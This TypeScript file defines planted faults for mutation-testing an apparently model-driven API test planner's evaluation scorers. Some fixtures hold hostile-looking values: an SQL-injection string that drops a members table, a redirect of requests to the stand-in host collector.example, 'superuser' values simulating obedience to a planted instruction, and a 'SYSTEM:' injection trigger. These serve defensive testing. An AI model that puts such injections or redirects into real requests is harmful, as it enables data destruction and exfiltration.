import type { Settings } from '../../evals/settings.ts';
import { STEPS } from '../../evals/suite.ts';
import type { Model } from '../../src/model/model.ts';
import type { Planned } from '../../src/operations/plan.ts';
import { isMade, type Plan, type PlannedRow, type Value } from '../../src/plan/plan.ts';

/** A fault planted in the planner, and the scorer that must turn red. */
export interface Fault {
  readonly name: string;
  readonly scorer: string;
  readonly steps: Settings['steps'];
}

type Rows = Plan['given']['rows'];

const plans = (change: (plan: Plan) => Plan): Settings['steps'] => ({
  ...STEPS,
  plan: (model) => {
    const planned = STEPS.plan(model);
    return { ...planned, plans: planned.plans.map(change) };
  },
});
const planned = (change: (of: Planned) => Planned): Settings['steps'] => ({
  ...STEPS,
  plan: (model) => change(STEPS.plan(model)),
});
const models = (change: (model: Model) => Model): Settings['steps'] => ({
  ...STEPS,
  read: (texts) => {
    const read = STEPS.read(texts);
    return { ...read, model: change(read.model) };
  },
});
const rows = (change: (row: PlannedRow, name: string) => PlannedRow) =>
  plans((plan) => ({
    ...plan,
    given: {
      ...plan.given,
      rows: Object.fromEntries(
        Object.entries(plan.given.rows).map(([name, row]) => [name, change(row, name)]),
      ),
    },
  }));
const cells = (change: (value: Value, column: string) => Value) =>
  rows((row) =>
    isMade(row)
      ? {
          ...row,
          set: Object.fromEntries(
            Object.entries(row.set).map(([column, value]) => [column, change(value, column)]),
          ),
        }
      : row,
  );
const more = (extra: Rows) =>
  plans((plan) => ({ ...plan, given: { ...plan.given, rows: { ...plan.given.rows, ...extra } } }));
const request = (change: (when: Plan['when'][number]) => Plan['when'][number]) =>
  plans((plan) => ({ ...plan, when: plan.when.map(change) }));
const outcomes = (change: (of: Model['apps'][number]['routes'][number]['outcomes']) => typeof of) =>
  models((model) => ({
    ...model,
    apps: model.apps.map((app) => ({
      ...app,
      routes: app.routes.map((route) => ({ ...route, outcomes: change(route.outcomes) })),
    })),
  }));

let turn = 0;

export const FAULTS: readonly Fault[] = [
  {
    name: 'ignores enums',
    scorer: 'validity',
    steps: cells((value, column) => (/^(status|species|state)$/.test(column) ? 'whatever' : value)),
  },
  {
    name: 'swaps two columns',
    scorer: 'held',
    steps: rows((row) => {
      if (!isMade(row) || !('weight_kg' in row.set || 'deferred' in row.set)) return row;
      const { deferred, ...set } = row.set;
      return {
        ...row,
        set: {
          ...set,
          weight_kg: 10,
          ...(deferred !== undefined && { deferred: deferred !== true }),
        },
      };
    }),
  },
  {
    name: 'invents a table',
    scorer: 'validity',
    steps: more({ ghost: { table: 'ghosts', set: {} } }),
  },
  {
    name: 'invents a column',
    scorer: 'validity',
    steps: rows((row) => (isMade(row) ? { ...row, set: { ...row.set, aura: 'blue' } } : row)),
  },
  {
    name: 'drops a variant',
    scorer: 'variants',
    steps: planned((of) => ({
      ...of,
      plans: of.plans.filter(({ variantOf }) => variantOf === null),
    })),
  },
  {
    name: 'drops the refusals',
    scorer: 'planned',
    steps: planned((of) => ({ ...of, plans: of.plans.filter(({ then }) => then.status < 400) })),
  },
  {
    name: 'doubles the rows',
    scorer: 'rows',
    steps: plans((plan) => {
      const twice = Object.entries(plan.given.rows).map(([name, row]) => [`${name}_again`, row]);
      const all = { ...plan.given.rows, ...Object.fromEntries(twice) };
      return { ...plan, given: { ...plan.given, rows: all } };
    }),
  },
  {
    name: 'doubles the plans',
    scorer: 'irredundant',
    steps: planned((of) => ({ ...of, plans: [...of.plans, ...of.plans] })),
  },
  {
    name: 'leaks a literal date',
    scorer: 'timeless',
    steps: cells((value) =>
      typeof value === 'object' && value && 'now' in value ? '2026-11-28T03:00:00Z' : value,
    ),
  },
  {
    name: 'obeys a planted instruction',
    scorer: 'wall',
    steps: cells((value, column) =>
      column === 'email' || column === 'seller' ? 'superuser' : value,
    ),
  },
  {
    name: 'sends the request elsewhere',
    scorer: 'wall',
    steps: request((when) => ({ ...when, path: `https://collector.example${when.path}` })),
  },
  {
    name: 'puts SQL into a value',
    scorer: 'wall',
    steps: more({ x: { table: 'members', set: { name: "'; DROP TABLE members; --" } } }),
  },
  {
    name: 'asks another route',
    scorer: 'aim',
    steps: request((when) => ({ ...when, path: '/elsewhere' })),
  },
  {
    name: 'asks with another method',
    scorer: 'aim',
    steps: request((when) => ({ ...when, method: 'PATCH' })),
  },
  {
    name: 'expects another status',
    scorer: 'aim',
    // biome-ignore lint/suspicious/noThenProperty: Given / When / Then is the plan's format
    steps: plans((plan) => ({ ...plan, then: { ...plan.then, status: 200 } })),
  },
  {
    name: 'forgets what the answer says',
    scorer: 'aim',
    // biome-ignore lint/suspicious/noThenProperty: Given / When / Then is the plan's format
    steps: plans((plan) => ({ ...plan, then: { ...plan.then, body: {} } })),
  },
  {
    name: 'gives no rows',
    scorer: 'held',
    steps: plans((plan) => ({ ...plan, given: { ...plan.given, rows: {} } })),
  },
  {
    name: 'gives what must be absent',
    scorer: 'held',
    steps: plans((plan) =>
      plan.then.status === 404 && plan.when[0]?.path.startsWith('/pets')
        ? { ...plan, given: { ...plan.given, rows: { pet: { table: 'pets', set: {} } } } }
        : plan,
    ),
  },
  {
    name: 'turns instants round',
    scorer: 'held',
    steps: cells((value) => {
      if (typeof value !== 'object' || !value || !('now' in value)) return value;
      return { now: value.now.startsWith('-') ? value.now.slice(1) : `-${value.now}` };
    }),
  },
  {
    name: 'is one off at a limit',
    scorer: 'held',
    steps: cells((value, column) =>
      typeof value === 'number' && column === 'weight_kg' ? (value < 50 ? 50 : 49) : value,
    ),
  },
  {
    name: 'negates flags',
    scorer: 'held',
    steps: cells((value) => (typeof value === 'boolean' ? !value : value)),
  },
  {
    name: 'puts text where a number belongs',
    scorer: 'validity',
    steps: cells((value) => (typeof value === 'number' ? 'many' : value)),
  },
  {
    name: 'points at a row that is not there',
    scorer: 'validity',
    steps: more({
      lost: { table: 'loans', set: { member_id: { ref: 'nobody.id' }, book_id: { ref: 'no.id' } } },
    }),
  },
  {
    name: 'sends a persona nobody is',
    scorer: 'validity',
    steps: request((when) => ({ ...when, as: 'stranger' })),
  },
  {
    name: 'is not the same twice',
    scorer: 'stability',
    steps: plans((plan) => ({ ...plan, title: `${plan.title} ${turn++}` })),
  },
  {
    name: 'no longer sees refusals',
    scorer: 'recall',
    steps: outcomes((all) => all.filter(({ status }) => status !== 409)),
  },
  {
    name: 'sees endings that are not there',
    scorer: 'precision',
    steps: outcomes((all) => [
      ...all,
      ...all.slice(0, 1).map((one) => ({ ...one, id: 'phantom', status: 418, code: 'teapot' })),
    ]),
  },
  {
    name: 'loses the machine code',
    scorer: 'recall',
    steps: outcomes((all) => all.map((one) => ({ ...one, code: null }))),
  },
  {
    name: 'reads comments as code',
    scorer: 'reaction',
    steps: {
      ...STEPS,
      read: (texts) => {
        const read = STEPS.read(texts);
        if (!JSON.stringify(texts).includes('SYSTEM:')) return read;
        const apps = read.model.apps.map((app) => ({ ...app, routes: [] }));
        return { ...read, model: { ...read.model, apps } };
      },
    },
  },
  {
    name: 'knows columns by old names',
    scorer: 'reaction',
    steps: plans((plan) => JSON.parse(JSON.stringify(plan).replaceAll('settled_at', 'paid_on'))),
  },
];
